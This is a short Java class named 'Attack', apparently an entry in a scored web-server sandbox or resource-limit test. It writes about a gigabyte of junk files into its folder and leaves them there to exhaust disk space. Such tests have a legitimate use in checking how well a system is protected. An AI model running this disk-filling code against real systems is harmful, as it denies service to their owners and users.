// It fills its folder and leaves it full.
// verdict: 100 points
package webserver;

import java.io.FileOutputStream;
import java.io.IOException;
import java.io.OutputStream;

final class Attack {
    static void run(String[] arguments) throws Exception {
        byte[] block = new byte[1024 * 1024];
        for (int i = 0; i < 64; i++) {
            try (OutputStream file = new FileOutputStream("full-" + i)) {
                for (int j = 0; j < 16; j++) {
                    file.write(block);
                }
            } catch (IOException e) {
                return;
            }
        }
    }
}
